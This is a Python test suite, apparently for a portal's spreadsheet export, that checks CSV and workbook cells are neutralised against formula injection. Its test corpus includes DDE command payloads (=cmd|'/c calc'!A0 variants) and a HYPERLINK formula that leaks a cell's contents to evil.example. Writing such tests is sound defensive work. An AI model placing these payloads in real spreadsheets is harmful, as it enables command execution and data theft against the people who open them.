"""What we write runs in no spreadsheet, and comes back as it was."""

from __future__ import annotations

import csv
import io
import re
import uuid
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.directory.record import PhoneEntry, ServiceRecord
from portal.directory.records import Recorded
from portal.editing.spreadsheet.export import as_workbook
from portal.editing.spreadsheet.words import Choices, Words
from portal.inert import as_meant, for_text, for_workbook

NONE = Choices({}, {})
TYPED = st.text(alphabet="=+-@'\"; ,|\n\tab0＝＋－＠", max_size=20)
CORPUS = [
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    '"=1+1',
    "＝1+1",
    "'=1+1",
    "ok\n=1+1",
    "ok;=1+1",
    "ok, @SUM(1)",
    "ok | =1+1",
    "01632 960001 | +44 1632 960002",
]


@given(TYPED)
def test_text_comes_back(text: str) -> None:
    assert as_meant(for_text(text)) == text


@given(TYPED)
def test_cells_of_workbooks_come_back(text: str) -> None:
    assert as_meant(for_workbook(text)) == text


@pytest.mark.parametrize("text", CORPUS)
@pytest.mark.parametrize("sign", [",", ";", "\t", "|"])
def test_no_cell_begins_a_formula_whatever_sign_a_program_cuts_at(text: str, sign: str) -> None:
    written = io.StringIO()
    csv.writer(written, quoting=csv.QUOTE_ALL).writerows([["Name", for_text(text), for_text(text)], [for_text(text)] * 3])
    cells = [cell for row in csv.reader(io.StringIO(written.getvalue()), delimiter=sign) for cell in row]
    cells += [part for line in written.getvalue().split("\n") for part in line.split(sign)]
    for cell in cells:
        assert not cell.strip(' "').startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), cell


def test_no_cell_of_a_workbook_is_a_formula_a_link_or_a_number() -> None:
    record = ServiceRecord(
        CORPUS[0],
        "\n".join(CORPUS),
        alert="http://example.org",
        eligibility="0123",
        phones=tuple(PhoneEntry(text) for text in CORPUS),
        documents=tuple(CORPUS),
    )
    words = Words(NONE, NONE, NONE, NONE, {})
    content = as_workbook([Recorded(uuid.UUID(int=1), uuid.UUID(int=2), 1, record)], words)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert 'quotePrefix="1"' in archive.read("xl/styles.xml").decode()
        assert not [name for name in archive.namelist() if "rels" in name and b"http://example.org" in archive.read(name)]
    assert len(sheets) == 3
    for sheet in sheets:
        assert "<f" not in sheet
        assert "<hyperlink" not in sheet
        kinds = re.findall(r"<c [^>]*>", sheet)
        assert kinds
        assert all(' t="s"' in kind for kind in kinds)
